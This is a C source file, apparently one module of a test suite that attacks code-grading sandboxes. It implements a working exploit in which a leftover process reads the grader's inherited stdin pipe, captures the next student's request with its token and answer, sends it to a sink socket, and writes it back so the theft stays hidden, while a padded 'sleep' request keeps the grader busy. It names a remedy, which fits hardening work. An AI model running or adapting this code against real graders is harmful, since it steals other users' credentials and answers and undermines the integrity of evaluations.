// SPDX-License-Identifier: MIT
/*
 * Goal:  the next student's request, with the token and the answer in it.
 * Means: standard input. A grader that talks to its shim over stdin and stdout, and starts students
 *        with its stdin, gives each of them the stream of requests. A process that is left behind
 *        reads it while the grader is busy with a request that nobody but the attacker has made: an
 *        inherited pipe can be opened again for writing. What was read is put back.
 *
 *     attacker --"run sleep"--> [ pipe ] --> grader: runs sleep for 200 ms
 *     shim -----"run student"-> [ pipe ] --> thief ---> 127.0.0.1
 *     thief ----"run student"-> [ pipe ] --> grader
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* What a buffered reader takes at once: a frame of that size is taken alone. */
#define BUFFER	 8192
#define PATIENCE 3 /* seconds */
#define HEAD	 "Content-Length: 8168\r\n\r\n"

static const char busy[] = "{\"jsonrpc\": \"2.0\", \"id\": 0, \"method\": \"eval\", \"params\": "
			   "[{\"response\": {\"argv\": [\"sleep\", \"0.2\"]}, "
			   "\"answer\": \"\", \"params\": {}}]}";

/* Make a request, padded with blanks to the size of the reader's buffer. */
static bool put(int in, const char *body)
{
	char frame[BUFFER + 1];

	snprintf(frame, sizeof(frame), HEAD "%-*s", BUFFER - (int)strlen(HEAD), body);
	return write(in, frame, BUFFER) == BUFFER;
}

/* Wait until the grader has taken what is ours, then take a whole request. Its body, or NULL. */
static const char *take(char *request, size_t size)
{
	const struct timespec tick = { .tv_nsec = 1000000 };
	const char *body = NULL;
	int waiting = 0;
	size_t n = 0;
	ssize_t k;

	while (!ioctl(STDIN_FILENO, FIONREAD, &waiting) && waiting >= BUFFER)
		nanosleep(&tick, NULL);
	while (!body || strlen(body) < strtoul(strchr(request, ':') + 1, NULL, 10)) {
		k = read(STDIN_FILENO, request + n, size - 1 - n);
		if (k <= 0)
			return NULL;
		request[n += (size_t)k] = '\0';
		body = strstr(request, "\r\n\r\n");
		body = body ? body + strlen("\r\n\r\n") : NULL;
	}
	return body;
}

/* The grader reads the student's output to its end, which is here; then its next request. */
static _Noreturn void steal(int in, int sink)
{
	static char request[BUFFER];
	const char *body;

	setsid();
	alarm(PATIENCE);
	close_range(STDOUT_FILENO, STDERR_FILENO, 0);
	while ((body = take(request, sizeof(request)))) {
		send(sink, body, strlen(body), MSG_NOSIGNAL);
		if (!put(in, body) || !put(in, busy))
			break;
	}
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	struct stat st;
	int in, sink;
	pid_t child;

	submit("0");
	attempting(b);
	if (b->again)
		return CLAIM_DONE;
	errno = ENOTSUP;
	if (fstat(STDIN_FILENO, &st) || !S_ISFIFO(st.st_mode))
		return denied("standard input is no stream of requests");
	sink = dial(SOCK_STREAM, b->sink);
	if (sink < 0)
		return denied("connect");
	in = open("/proc/self/fd/0", O_WRONLY | O_CLOEXEC);
	if (in < 0 || !put(in, busy))
		return denied("standard input");
	child = fork();
	if (!child)
		steal(in, sink);
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student's request goes to the attacker",
	.means = "a process left behind reads the grader's stdin, which students inherit",
	.oracle = "secret:victim",
	.scene = SCENE_BEFORE_VICTIM,
	.grader = GRADER_RPC,
	.quick = true,
	.id = "FDS-03",
	.attack_id = "T1557, CWE-403",
	.remedy = "stdin from /dev/null for students; end every process of a submission",
	.refs = (const char *const[]){ "pipe(7)", "proc_pid_fd(5)", NULL },
	.run = run,
};
